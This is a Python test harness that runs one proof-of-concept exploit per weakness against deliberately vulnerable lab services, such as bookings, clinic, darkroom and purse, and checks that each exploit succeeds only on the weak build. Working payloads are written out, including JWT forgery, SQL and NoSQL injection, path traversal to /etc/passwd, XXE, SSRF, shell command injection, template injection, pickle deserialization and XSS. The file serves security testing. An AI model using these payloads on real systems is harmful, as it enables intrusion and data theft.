"""That each weakness is there in the weak service, alone too, and not in its fixed twin: one exploit for each.

The exploits know the service; no scanner could pass by them. ``weaknesses.yaml`` says in words what they show.
"""

import argparse
import base64
import contextlib
import hashlib
import hmac
import json
import pickle
import re
import socket
import subprocess
import sys
import tempfile
import threading
import time
from http.server import BaseHTTPRequestHandler, HTTPServer
from pathlib import Path

import common
import eighth_proofs  # noqa: F401
import fifth_proofs  # noqa: F401 - they add their own to those of the third
import fourth_proofs  # noqa: F401
import httpx
import jwt
import ninth_proofs  # noqa: F401
import seventh_proofs  # noqa: F401
import sixth_proofs  # noqa: F401
import tenth_proofs  # noqa: F401
import third_proofs
import yaml

HERE = Path(__file__).resolve().parent
PASSWORD = {name: entry["password"] for name, entry in common.ACCOUNTS.items()}
PROOFS = dict(third_proofs.PROOFS)


def proof(service, weakness):
    def register(function):
        PROOFS[service, weakness] = function
        return function

    return register


class Client(httpx.Client):
    """A client of one service; knows how its people sign in."""

    def __init__(self, service, url, process):
        super().__init__(base_url=url, trust_env=False, timeout=30)
        self.service, self.process = service, process

    def token(self, name):
        body = {"username": name, "password": PASSWORD[name]}
        if self.service in {"helpdesk", "clinic"}:
            return self.ask("mutation($u: String!, $p: String!) {login(username: $u, password: $p) {token}}", u=name, p=PASSWORD[name]).json()["data"]["login"]["token"]
        answer = self.post("/sessions" if self.service == "darkroom" else "/login", json=body).json()
        return answer.get("access_token") or answer["token"]

    def as_(self, name):
        if self.service in third_proofs.SIGN_IN:
            return third_proofs.SIGN_IN[self.service](self, name)
        if self.service == "stockroom":
            return {"Authorization": "Basic " + base64.b64encode(f"{name}:{PASSWORD[name]}".encode()).decode()}
        if self.service == "meters":
            return {"X-API-Key": common.KEYS[name]}
        if self.service == "darkroom":
            return {"Authorization": f"Token {self.token(name)}"}
        if self.service in {"storefront", "allotments"}:
            answer = self.post("/login", data={"username": name, "password": PASSWORD[name]})
            self.cookies.clear()
            return {"Cookie": answer.headers["set-cookie"].partition(";")[0]}
        return {"Authorization": f"Bearer {self.token(name)}"}

    def ask(self, query, caller=None, **variables):
        return self.post("/graphql", json={"query": query, "variables": variables}, headers=caller or {})

    def csrf(self, caller):
        return re.search('name=csrf(?:_|middleware)token value="([^"]+)"', self.get("/account", headers=caller).text)[1]

    def listed(self, path, name, *keys):
        """The first entry of somebody's list."""
        entries = self.get(path, headers=self.as_(name)).json()
        for key in keys:
            entries = entries[key]
        return entries[0]["id"]


def at_once(client, method, path, count, body="", caller=None):
    """The statuses of requests that are all sent before the first is answered."""
    lines = [f"{method} {path} HTTP/1.0", "Host: 127.0.0.1", "Content-Type: application/json", f"Content-Length: {len(body)}", *(f"{name}: {value}" for name, value in (caller or {}).items())]
    sockets = [socket.create_connection((client.base_url.host, client.base_url.port)) for _ in range(count)]
    for connection in sockets:
        connection.sendall(("\r\n".join(lines) + "\r\n\r\n" + body).encode())
    statuses = []
    for connection in sockets:
        statuses.append(connection.recv(4096)[9:12].decode())
        connection.close()
    return statuses


@contextlib.contextmanager
def listener(location=""):
    """A server of this machine, on an address that lists of forbidden ones forget; what it is asked is kept."""
    paths = []

    class Page(BaseHTTPRequestHandler):
        def do_GET(self):
            paths.append(self.path)
            self.send_response(302 if location and self.path == "/" else 200)
            self.send_header("Content-Length", "5")
            if location and self.path == "/":
                self.send_header("Location", location)
            self.end_headers()
            self.wfile.write(b"inner")

        do_POST = do_GET  # noqa: N815 - as http.server has it

        def log_message(self, *_):
            pass

    server = HTTPServer(("127.0.0.3", 0), Page)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    try:
        yield f"http://127.0.0.3:{server.server_port}/", paths
    finally:
        server.shutdown()
        server.server_close()


@proof("bookings", "weak-key")
def _(client):
    try:
        return bool(jwt.decode(client.token("ann"), "secret", ["HS256"]))
    except jwt.PyJWTError:
        return False


@proof("bookings", "alg-none")
def _(client):
    claims = jwt.decode(client.token("ann"), options={"verify_signature": False})
    return client.get("/me", headers={"Authorization": "Bearer " + jwt.encode(claims | {"sub": "olga"}, "", "none")}).status_code == 200


@proof("bookings", "booking-read")
def _(client):
    identifier = client.get("/bookings", headers=client.as_("ann")).json()[0]["id"]
    return client.get(f"/bookings/{identifier}", headers=client.as_("ben")).status_code == 200


@proof("bookings", "booking-delete")
def _(client):
    identifier = client.get("/bookings", headers=client.as_("ann")).json()[0]["id"]
    return client.delete(f"/bookings/{identifier}", headers=client.as_("ben")).status_code == 204


@proof("bookings", "admin-open")
def _(client):
    return client.get("/admin/bookings", headers=client.as_("ben")).status_code == 200


@proof("bookings", "role-assign")
def _(client):
    body = {"username": "zoe.hill", "password": "poplar-Window-64", "email": "zoe@west.example", "role": "admin"}
    return client.post("/accounts", json=body).json()["role"] == "admin"


@proof("bookings", "login-unlimited")
def _(client):
    return {client.post("/login", json={"username": "carol", "password": f"wrong-{n}"}).status_code for n in range(20)} == {401}


@proof("bookings", "login-texts")
def _(client):
    return len({client.post("/login", json={"username": name, "password": "wrong"}).text for name in ("carol", "nobody-here")}) == 2


@proof("papers", "download-outside")
def _(client):
    return "root:x:0:0" in client.get("/templates", params={"file": "../../../etc/passwd"}, headers=client.as_("ann")).text


@proof("papers", "paper-read")
def _(client):
    identifier = client.get("/papers", headers=client.as_("ann")).json()[0]["id"]
    return client.get(f"/papers/{identifier}", headers=client.as_("ben")).status_code == 200


@proof("papers", "import-anything")
def _(client):
    class Page(BaseHTTPRequestHandler):
        def do_GET(self):
            self.send_response(200)
            self.send_header("Content-Length", "5")
            self.end_headers()
            self.wfile.write(b"inner")

        def log_message(self, *_):
            pass

    server = HTTPServer(("127.0.0.1", 0), Page)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    try:
        answer = client.post("/imports", json={"url": f"http://127.0.0.1:{server.server_port}/"}, headers=client.as_("ann"))
        return answer.status_code == 201 and answer.json()["text"] == "inner"
    finally:
        server.shutdown()
        server.server_close()


@proof("papers", "upload-any")
def _(client):
    caller = client.as_("ann")
    answer = client.post("/scans", files={"file": ("page.html", b"<script>1</script>", "text/html")}, headers=caller)
    return answer.status_code == 201 and client.get(answer.json()["address"], headers=caller).headers["content-type"].startswith("text/html")


@proof("papers", "size-open")
def _(client):
    return client.post("/papers", json={"title": "Long", "text": "x" * 2_000_000}, headers=client.as_("ann")).status_code == 201


@proof("papers", "stacks")
def _(client):
    return "Traceback" in client.post("/papers", json={"title": 5, "text": "x"}, headers=client.as_("ann")).text


@proof("papers", "cors-all")
def _(client):
    headers = client.get("/version", headers={"Origin": "https://elsewhere.example"}).headers
    return headers.get("access-control-allow-origin") == "https://elsewhere.example" and "access-control-allow-credentials" in headers


@proof("papers", "export-formula")
def _(client):
    caller = client.as_("ann")
    client.post("/papers", json={"title": "Sum", "text": "=1+1"}, headers=caller)
    return ",=1+1" in client.get("/export.csv", headers=caller).text


@proof("parcels", "token-counted")
def _(client):
    first, second = (re.sub(r"\D", "", client.token("ann")[-6:]) for _ in range(2))
    return first.isdigit() and second.isdigit() and int(second) == int(first) + 1


@proof("parcels", "parcel-read")
def _(client):
    identifier = client.get("/parcels", headers=client.as_("ann")).json()["items"][0]["id"]
    return client.get(f"/parcels/{identifier}", headers=client.as_("ben")).status_code == 200


@proof("parcels", "role-patch")
def _(client):
    return client.patch("/me", json={"phone": "0123456", "role": "admin"}, headers=client.as_("carol")).json()["role"] == "admin"


@proof("parcels", "reset-texts")
def _(client):
    return len({client.post("/password-resets", json={"email": email}).text for email in ("ann@north.example", "no@no.example")}) == 2


@proof("parcels", "logout-open")
def _(client):
    caller = client.as_("ann")
    client.post("/logout", headers=caller)
    return client.get("/me", headers=caller).status_code == 200


@proof("parcels", "page-open")
def _(client):
    return client.get("/parcels", params={"limit": 1_000_000}, headers=client.as_("ann")).status_code == 200


@proof("parcels", "courier-data")
def _(client):
    caller = client.as_("ann")
    identifier = client.get("/parcels", headers=caller).json()["items"][0]["id"]
    return "iban" in client.get(f"/parcels/{identifier}", headers=caller).text


@proof("parcels", "limit-forwarded")
def _(client):
    return {client.post("/login", json={"username": "carol", "password": "wrong"}, headers={"X-Forwarded-For": f"10.0.0.{n}"}).status_code for n in range(12)} == {401}


@proof("storefront", "search-script")
def _(client):
    return "<script>1</script>" in client.get("/search", params={"q": "<script>1</script>"}).text


@proof("storefront", "review-script")
def _(client):
    caller = client.as_("ann")
    client.post("/products/2/reviews", data={"text": "<b onclick=x>", "csrf_token": client.csrf(caller)}, headers=caller)
    return "<b onclick=x>" in client.get("/products/2").text


@proof("storefront", "leave-anywhere")
def _(client):
    return client.get("/leave", params={"to": "https://elsewhere.example/"}).headers.get("location") == "https://elsewhere.example/"


@proof("storefront", "session-kept")
def _(client):
    client.post("/login", data={"username": "ann", "password": PASSWORD["ann"]}, headers={"Cookie": "sid=chosen-before"})
    client.cookies.clear()
    return client.get("/account", headers={"Cookie": "sid=chosen-before"}).status_code == 200


@proof("storefront", "cookie-bare")
def _(client):
    cookie = client.get("/login").headers["set-cookie"].lower()
    client.cookies.clear()
    return not any(flag in cookie for flag in ("httponly", "secure", "samesite"))


@proof("storefront", "form-forged")
def _(client):
    return client.post("/account", data={"phone": "0123456"}, headers=client.as_("ann")).status_code == 303


@proof("storefront", "host-link")
def _(client):
    return "elsewhere.example" in client.get("/invite", headers=client.as_("ann") | {"Host": "elsewhere.example"}).text


@proof("storefront", "headers-missing")
def _(client):
    return not {"content-security-policy", "x-frame-options", "x-content-type-options"} & set(client.get("/").headers)


@proof("helpdesk", "introspection")
def _(client):
    return "Mutation" in client.ask("{__schema {types {name}}}").text


@proof("helpdesk", "ticket-read")
def _(client):
    identifier = client.ask("{tickets {id}}", client.as_("ann")).json()["data"]["tickets"][0]["id"]
    return identifier in client.ask("query($id: ID!) {ticket(id: $id) {id text}}", client.as_("ben"), id=identifier).text


@proof("helpdesk", "people-open")
def _(client):
    return "olga" in client.ask("{people {username email}}", client.as_("ben")).text


@proof("helpdesk", "search-sql")
def _(client):
    return '"ben"' in client.ask("query($w: String!) {search(words: $w) {owner}}", client.as_("ann"), w="%' OR 1=1 --").text


@proof("helpdesk", "errors-detailed")
def _(client):
    body = b'{"query": "query($w: String!) {search(words: $w) {id}}", "variables": {"w": "\\ud800"}}'
    return "stacktrace" in client.post("/graphql", content=body, headers=client.as_("ann") | {"Content-Type": "application/json"}).text


@proof("helpdesk", "settings-secrets")
def _(client):
    return "password_hash" in client.ask("{me {settings}}", client.as_("ann")).text


@proof("helpdesk", "register-role")
def _(client):
    account = {"username": "zoe.hill", "password": "poplar-Window-64", "email": "zoe@west.example", "role": "admin"}
    return '"admin"' in client.ask("mutation($a: Registration!) {register(account: $a) {role}}", a=account).text.replace("role: ", "")


@proof("helpdesk", "depth-open")
def _(client):
    query = "{tickets " + "{related " * 9 + "{id}" + "}" * 10
    return '"errors"' not in client.ask(query, client.as_("ann")).text


@proof("stockroom", "nested-body")
def _(client):
    nested = '{"name": "Nut", "note": ' + "[" * 30_000 + "]" * 30_000 + "}"
    try:
        client.post("/items", content=nested, headers=client.as_("ann") | {"Content-Type": "application/json"})
    except httpx.TransportError:
        return client.process.wait(10) != 0
    return False


@proof("stockroom", "slow-pattern")
def _(client):
    caller = client.as_("ann")
    quick = client.post("/items", json={"name": "Nut", "note": "aaa"}, headers=caller).elapsed
    return client.post("/items", json={"name": "Nut", "note": "a" * 40 + "!"}, headers=caller).elapsed > 10 * quick


@proof("stockroom", "label-header")
def _(client):
    return "x-other" in client.get("/items/HMR-01/label?language=de%0d%0aX-Other:1", headers=client.as_("ann")).headers


@proof("stockroom", "sort-sql")
def _(client):
    orders = [
        client.get("/items", params={"sort": f"CASE WHEN {condition} THEN name ELSE count END"}, headers=client.as_("ann")).text
        for condition in ("1=1", "1=2")
    ]
    return orders[0] != orders[1]


@proof("stockroom", "movements-open")
def _(client):
    return client.get("/movements").status_code == 200


@proof("stockroom", "supplier-keys")
def _(client):
    return "sk_live_" in client.get("/suppliers", headers=client.as_("ann")).text


@proof("stockroom", "trace-served")
def _(client):
    return "x-mark: 1" in client.request("TRACE", "/version", headers={"X-Mark": "1"}).text.lower()


@proof("stockroom", "count-errors")
def _(client):
    return client.get("/items", params={"at_least": "x"}, headers=client.as_("ann")).status_code == 500

@proof("clinic", "pet-read")
def _(client):
    identifier = client.ask("{pets {id}}", client.as_("ann")).json()["data"]["pets"][0]["id"]
    return "microchip" in client.ask("query($id: ID!) {pet(id: $id) {microchip}}", client.as_("ben"), id=identifier).text


@proof("clinic", "visit-cancel")
def _(client):
    identifier = client.ask("{visits {id}}", client.as_("ann")).json()["data"]["visits"][0]["id"]
    client.ask("mutation($id: ID!) {cancelVisit(id: $id) {id}}", client.as_("ben"), id=identifier)
    return "CANCELLED" in client.ask("{visits {state}}", client.as_("ann")).text


@proof("clinic", "visits-filter")
def _(client):
    return "vaccination, ann" in client.ask('{visits(owner: "ann") {reason}}', client.as_("ben")).text


@proof("clinic", "payroll-open")
def _(client):
    return "GB29" in client.ask("{payroll {iban}}", client.as_("ben")).text


@proof("clinic", "profile-role")
def _(client):
    caller = client.as_("carol")
    client.ask("mutation($p: Profile!) {updateProfile(input: $p) {role}}", caller, p={"role": "admin"})
    return '"admin"' in client.ask("{me {role}}", caller).text


@proof("clinic", "alias-login")
def _(client):
    query = "mutation {" + " ".join(f'a{n}: login(username: "carol", password: "wrong-{n}") {{token}}' for n in range(15)) + f' z: login(username: "carol", password: "{PASSWORD["carol"]}") {{token}}' + "}"
    return (client.ask(query).json().get("data") or {}).get("z") is not None


@proof("clinic", "get-mutation")
def _(client):
    caller = client.as_("ann")
    client.get("/graphql", params={"query": "mutation {logout}"}, headers=caller)
    return "UNAUTHENTICATED" in client.ask("{me {username}}", caller).text


@proof("clinic", "token-endless")
def _(client):
    return "exp" not in jwt.decode(client.token("ann"), options={"verify_signature": False})


@proof("clinic", "password-unasked")
def _(client):
    client.ask('mutation {changePassword(current: "no idea", password: "poplar-Window-64")}', client.as_("carol"))
    return '"token"' in client.ask('mutation {login(username: "carol", password: "poplar-Window-64") {token}}').text


@proof("clinic", "find-operators")
def _(client):
    return "Rex of ben" in client.ask("query($f: JSON!) {findPets(filter: $f) {name}}", client.as_("ann"), f={"owner": {"$ne": ""}, "name": {"$regex": "^Rex"}}).text


@proof("clinic", "debug-route")
def _(client):
    return "DATABASE_URL" in client.get("/debug/vars").text


@proof("clinic", "names-suggested")
def _(client):
    return "payroll" in client.ask("{payrol {iban}}").text


@proof("allotments", "search-quote")
def _(client):
    return '" onfocus=alert(1) x="' in client.get("/search", params={"q": '" onfocus=alert(1) x="'}).text


@proof("allotments", "board-script")
def _(client):
    caller = client.as_("ann")
    client.post("/board", data={"text": "<b onclick=x>", "csrfmiddlewaretoken": client.csrf(caller)}, headers=caller)
    return "<b onclick=x>" in client.get("/board").text


@proof("allotments", "missing-script")
def _(client):
    return "<script>1</script>" in client.get("/none/%3Cscript%3E1%3C/script%3E").text


@proof("allotments", "next-anywhere")
def _(client):
    answer = client.post("/login", data={"username": "ann", "password": PASSWORD["ann"], "next": "//elsewhere.example/"})
    return answer.headers["location"] == "//elsewhere.example/"


@proof("allotments", "forms-unchecked")
def _(client):
    return client.post("/account", data={"phone": "0113 496 0000"}, headers=client.as_("ann")).status_code == 303


@proof("allotments", "logout-kept")
def _(client):
    caller = client.as_("ann")
    client.post("/logout", data={"csrfmiddlewaretoken": client.csrf(caller)}, headers=caller)
    return client.get("/account", headers=caller).status_code == 200


@proof("allotments", "cookie-bare")
def _(client):
    cookie = client.post("/login", data={"username": "ann", "password": PASSWORD["ann"]}).headers["set-cookie"].lower()
    return "httponly" not in cookie and "samesite" not in cookie


@proof("allotments", "account-framed")
def _(client):
    caller = client.as_("ann")
    return not {"x-frame-options", "content-security-policy"} & set(client.get("/account", headers=caller).headers) and "x-frame-options" in client.get("/board").headers


@proof("allotments", "plot-change")
def _(client):
    caller = client.as_("ben")
    client.post("/plots/1", data={"crop": "thistles", "csrfmiddlewaretoken": client.csrf(caller)}, headers=caller)
    return "thistles" in client.get("/plots/1", headers=client.as_("ann")).text


@proof("allotments", "forgotten-texts")
def _(client):
    caller = client.as_("ann")
    token = client.csrf(caller)
    return len({client.post("/forgotten", data={"email": email, "csrfmiddlewaretoken": token}, headers=caller).text for email in ("ben@south.example", "no@no.example")}) == 2


@proof("allotments", "account-cached")
def _(client):
    return "public" in client.get("/account", headers=client.as_("ann")).headers["cache-control"]


@proof("allotments", "static-listed")
def _(client):
    return "members.csv.bak" in client.get("/static/").text and "0113" in client.get("/static/members.csv.bak").text


@proof("allotments", "errors-debug")
def _(client):
    return "Traceback" in client.get("/plots/x", headers=client.as_("ann")).text


@proof("darkroom", "upload-any")
def _(client):
    caller = client.as_("ann")
    answer = client.post("/photos", files={"file": ("page.svg", b"<svg onload=x>", "image/svg+xml")}, headers=caller)
    return answer.status_code == 201 and client.get(f"/photos/{answer.json()['id']}/content", headers=caller).headers["content-type"] == "image/svg+xml"


@proof("darkroom", "name-outside")
def _(client):
    client.post("/photos", files={"file": ("../../assets/mark.txt", b"GIF89a mark", "image/gif")}, headers=client.as_("ann"))
    return client.get("/assets/mark.txt").text == "GIF89a mark"


@proof("darkroom", "export-outside")
def _(client):
    return "root:x:0:0" in client.get("/exports", params={"file": "../../../etc/passwd"}, headers=client.as_("ann")).text


@proof("darkroom", "photo-read")
def _(client):
    return client.get(f"/photos/{client.listed('/photos', 'ann', 'photos')}", headers=client.as_("ben")).status_code == 200


@proof("darkroom", "album-photos")
def _(client):
    return "Harbour, ann" in client.get(f"/albums/{client.listed('/albums', 'ann', 'albums')}/photos", headers=client.as_("ben")).text


@proof("darkroom", "import-entities")
def _(client):
    text = '<!DOCTYPE album [<!ENTITY e SYSTEM "file:///etc/passwd">]><album><title>&e;</title></album>'
    return "root:x:0:0" in client.post("/albums/import", content=text, headers=client.as_("ann") | {"Content-Type": "application/xml"}).text


@proof("darkroom", "fetch-inner")
def _(client):
    with listener("/inner") as (url, paths):
        answer = client.post("/photos/fetch", json={"url": url}, headers=client.as_("ann"))
        return answer.status_code == 201 and paths == ["/", "/inner"]


@proof("darkroom", "caption-template")
def _(client):
    return client.post("/exports", json={"caption": "{{ 191 * 7 }}"}, headers=client.as_("ann")).json()["preview"] == "1337"


@proof("darkroom", "resize-command")
def _(client):
    identifier = client.listed("/photos", "ann", "photos")
    return "uid=" in client.post(f"/photos/{identifier}/resize", json={"geometry": "8x8; id"}, headers=client.as_("ann")).text


@proof("darkroom", "backups-served")
def _(client):
    return "[core]" in client.get("/.git/config").text and "DB_PASSWORD" in client.get("/.env").text and "INSERT" in client.get("/backup.sql").text


@proof("darkroom", "map-served")
def _(client):
    return "AKIA" in client.get("/assets/app.js.map").text and "app.js.map" in client.get("/assets/app.js").text


@proof("darkroom", "size-open")
def _(client):
    return client.post("/photos", files={"file": ("a.gif", b"GIF89a" + bytes(2_000_000), "image/gif")}, headers=client.as_("ann")).status_code == 201


@proof("darkroom", "download-header")
def _(client):
    identifier = client.listed("/photos", "ann", "photos")
    return "x-other" in client.get(f"/photos/{identifier}/content?name=a%0d%0aX-Other:1", headers=client.as_("ann")).headers


def forged(claims, key, kid="main"):
    """A token of the savings club."""
    parts = [base64.urlsafe_b64encode(json.dumps(part).encode()).rstrip(b"=").decode() for part in ({"alg": "HS256", "kid": kid}, claims)]
    signature = hmac.new(key, ".".join(parts).encode(), hashlib.sha256).digest()
    return ".".join([*parts, base64.urlsafe_b64encode(signature).rstrip(b"=").decode()])


def served(client, key=None, kid="main", **changed):
    """Whether a forged token is served."""
    claims = jwt.decode(client.token("ann"), options={"verify_signature": False}) | changed
    key = common.SIGNING_KEY.encode() if key is None else key
    return client.get("/me", headers={"Authorization": "Bearer " + forged(claims, key, kid)}).status_code == 200


@proof("purse", "redeem-twice")
def _(client):
    statuses = at_once(client, "POST", "/redemptions", 6, '{"account": 1, "code": "SPRING-25"}', client.as_("ann"))
    return statuses.count("201") > 1


@proof("purse", "account-read")
def _(client):
    return client.get("/accounts/1", headers=client.as_("ben")).status_code == 200


@proof("purse", "account-close")
def _(client):
    return client.delete("/accounts/1", headers=client.as_("ben")).status_code == 204


@proof("purse", "transfer-from")
def _(client):
    return client.post("/transfers", json={"source": 1, "target": 3, "amount": 100, "memo": "mine"}, headers=client.as_("ben")).status_code == 201


@proof("purse", "statement-number")
def _(client):
    return len(client.get("/statement", params={"account": "0 OR 1=1"}, headers=client.as_("ann")).json().get("entries", ())) > 12


@proof("purse", "entries-order")
def _(client):
    orders = [client.get("/accounts/1/entries", params={"order": f"CASE WHEN {condition} THEN day ELSE amount END"}, headers=client.as_("ann")).text for condition in ("1=1", "1=2")]
    return orders[0] != orders[1]


@proof("purse", "key-path")
def _(client):
    return served(client, b"", "../dev/null", sub="olga")


@proof("purse", "audience-open")
def _(client):
    return served(client, aud="another-service")


@proof("purse", "expiry-open")
def _(client):
    return served(client, exp=int(time.time()) - 86_400)


@proof("purse", "login-forwarded")
def _(client):
    return {client.post("/login", json={"username": "carol", "password": "wrong"}, headers={"X-Forwarded-For": f"10.0.0.{n}"}).status_code for n in range(8)} == {401}


@proof("purse", "account-cached")
def _(client):
    return "public" in client.get("/accounts/1", headers=client.as_("ann")).headers["cache-control"]


@proof("purse", "entries-limit")
def _(client):
    return client.get("/accounts/1/entries?limit=1000000", headers=client.as_("ann")).status_code == 200


@proof("purse", "failure-verbose")
def _(client):
    return "Traceback" in client.put("/preferences", json={"language": 5}, headers=client.as_("ann")).text


@proof("ferries", "signature-open")
def _(client):
    head, body, _ = client.token("ann").split(".")
    claims = json.loads(base64.urlsafe_b64decode(body + "==")) | {"role": "admin"}
    body = base64.urlsafe_b64encode(json.dumps(claims).encode()).rstrip(b"=").decode()
    return client.get("/office/sales", headers={"Authorization": f"Bearer {head}.{body}.AAAA"}).status_code == 200


@proof("ferries", "login-operators")
def _(client):
    return client.post("/login", json={"username": "olga", "password": {"$ne": ""}}).status_code == 200


@proof("ferries", "ticket-read")
def _(client):
    return client.get(f"/tickets/{client.listed('/tickets', 'ann', 'tickets')}", headers=client.as_("ben")).status_code == 200


@proof("ferries", "refund-open")
def _(client):
    return client.post("/office/refunds", json={"ticket": client.listed("/tickets", "ann", "tickets")}, headers=client.as_("ben")).status_code == 200


@proof("ferries", "price-chosen")
def _(client):
    return client.post("/tickets", json={"sailing": 1, "passenger": "Ann", "price": 0.01}, headers=client.as_("ann")).json()["price"] == 0.01


@proof("ferries", "preferences-merged")
def _(client):
    client.put("/me/preferences", content='{"language": "en", "__proto__": {"mark": "here"}}', headers=client.as_("ann"))
    return "mark" in client.get("/me/preferences", headers=client.as_("ben")).json()


@proof("ferries", "cors-prefix")
def _(client):
    headers = client.get("/version", headers={"Origin": "http://127.0.0.1.elsewhere.example"}).headers
    return headers.get("access-control-allow-origin") == "http://127.0.0.1.elsewhere.example" and "access-control-allow-credentials" in headers


@proof("ferries", "errors-headerless")
def _(client):
    return "x-content-type-options" not in client.get("/nowhere").headers and "x-content-type-options" in client.get("/version").headers


@proof("ferries", "stacks")
def _(client):
    return "server.js" in client.post("/tickets", json={"sailing": "x", "passenger": "Ann"}, headers=client.as_("ann")).text


@proof("ferries", "map-served")
def _(client):
    return "sk_live_" in client.get("/app.js.map").text


@proof("ferries", "admin-unlisted")
def _(client):
    return "ann@north.example" in client.get("/admin/users").text


@proof("ferries", "huge-text")
def _(client):
    try:
        client.post("/tickets", json={"sailing": 1, "passenger": "Ann", "note": "x" * 3_500_000}, headers=client.as_("ann"))
    except httpx.TransportError:
        return client.process.wait(10) != 0
    return False


@proof("ferries", "parallel-falls")
def _(client):
    at_once(client, "GET", "/version", 70)
    return client.get("/version").status_code == 500


@proof("ferries", "plate-pattern")
def _(client):
    caller = client.as_("ann")
    quick = client.post("/tickets", json={"sailing": 1, "passenger": "Ann", "plate": "SK31 ABC"}, headers=caller).elapsed
    return client.post("/tickets", json={"sailing": 1, "passenger": "Ann", "plate": "A" * 40 + "!"}, headers=caller).elapsed > 10 * quick


@proof("meters", "site-read")
def _(client):
    return client.get(f"/sites/{client.listed('/sites', 'ann')}", headers=client.as_("ben")).status_code == 200


@proof("meters", "site-delete")
def _(client):
    return client.delete(f"/sites/{client.listed('/sites', 'ann')}", headers=client.as_("ben")).status_code == 204


@proof("meters", "readings-filter")
def _(client):
    return len(client.get("/readings", params={"site_id": client.listed("/sites", "ann")}, headers=client.as_("ben")).json()) == 5


@proof("meters", "tenant-header")
def _(client):
    return "north" in client.get("/sites", headers=client.as_("ben") | {"X-Tenant": "north"}).text.replace("not of this tenant", "")


@proof("meters", "keys-shown")
def _(client):
    return common.KEYS["carol"] in client.get("/api-keys", headers=client.as_("ann")).text


@proof("meters", "key-scope")
def _(client):
    key = client.post("/api-keys", json={"label": "mine", "scope": "admin"}, headers=client.as_("ann")).json()["key"]
    return client.get("/office/tenants", headers={"X-API-Key": key}).status_code == 200


@proof("meters", "key-kept")
def _(client):
    caller = client.as_("ann")
    made = client.post("/api-keys", json={"label": "mine"}, headers=caller).json()
    client.delete(f"/api-keys/{made['id']}", headers=caller)
    return client.get("/me", headers={"X-API-Key": made["key"]}).status_code == 200


@proof("meters", "hook-inner")
def _(client):
    with listener() as (url, paths):
        client.post("/webhooks", json={"url": url + "inner"}, headers=client.as_("ann"))
        return paths == ["/inner"]


@proof("meters", "payment-unsigned")
def _(client):
    return client.post("/incoming/payments", json={"site_id": "x", "amount": 5}).status_code == 202


@proof("meters", "directory-filter")
def _(client):
    return "ivor.private" in client.get("/directory", params={"name": "*)(cn=*))(|(cn=*"}, headers=client.as_("ann")).text or len(client.get("/directory", params={"name": "*"}, headers=client.as_("ann")).json()) == 2


@proof("meters", "tariff-path")
def _(client):
    return "X-STAFF" in client.get("/tariffs", params={"code": "' or '1'='1"}, headers=client.as_("ann")).text


class Sleeping:
    def __reduce__(self):
        return time.sleep, (1.5,)


@proof("meters", "restore-objects")
def _(client):
    data = base64.b64encode(pickle.dumps(Sleeping())).decode()
    return client.post("/readings/restore", json={"data": data}, headers=client.as_("ann")).elapsed.total_seconds() > 1.4


@proof("meters", "contact-forwarded")
def _(client):
    body = {"email": "a@b.example", "text": "Hello"}
    return {client.post("/contact", json=body, headers={"X-Forwarded-For": f"10.0.0.{n}"}).status_code for n in range(15)} == {202}


@proof("meters", "readings-limit")
def _(client):
    return client.get("/readings?limit=1000000", headers=client.as_("ann")).status_code == 200



def shows(service, weakness, switched, folder):
    """Whether a service with these options has the weakness."""
    command = [sys.executable, str(HERE / service / "service.py"), "--folder", str(folder), *switched]
    with subprocess.Popen(command, stdout=subprocess.PIPE, stderr=subprocess.DEVNULL, text=True) as process:
        try:
            port = json.loads(process.stdout.readline())["port"]
            with Client(service, f"http://127.0.0.1:{port}", process) as client:
                return bool(PROOFS[service, weakness](client))
        finally:
            process.kill()


def main():
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("services", nargs="*")
    options = parser.parse_args()
    listed = [(entry["service"], entry["id"]) for entry in yaml.safe_load((HERE / "weaknesses.yaml").read_text())]
    wrong = [f"{service} {weakness}: expected a proof and an entry, observed one of them" for service, weakness in set(listed) ^ set(PROOFS)]
    print(*wrong, sep="\n", end="")
    listed = [pair for pair in listed if not options.services or pair[0] in options.services]
    with tempfile.TemporaryDirectory() as temporary:
        Path(temporary).chmod(0o755)
        for number, (service, weakness) in enumerate(listed):
            for name, switched, expected in (("weak", ["--weak"], True), ("alone", ["--weak", weakness], True), ("fixed", [], False)):
                try:
                    seen = shows(service, weakness, switched, Path(temporary) / f"{number}-{name}")
                except Exception as error:
                    seen = f"{type(error).__name__}: {error}"
                if seen is not expected:
                    wrong.append(f"{service} {weakness}, {name}: expected {expected}, observed {seen}")
                    print(wrong[-1], flush=True)
    print(f"{len(listed)} weaknesses, {len(wrong)} wrong")
    sys.exit(bool(wrong))


if __name__ == "__main__":
    main()
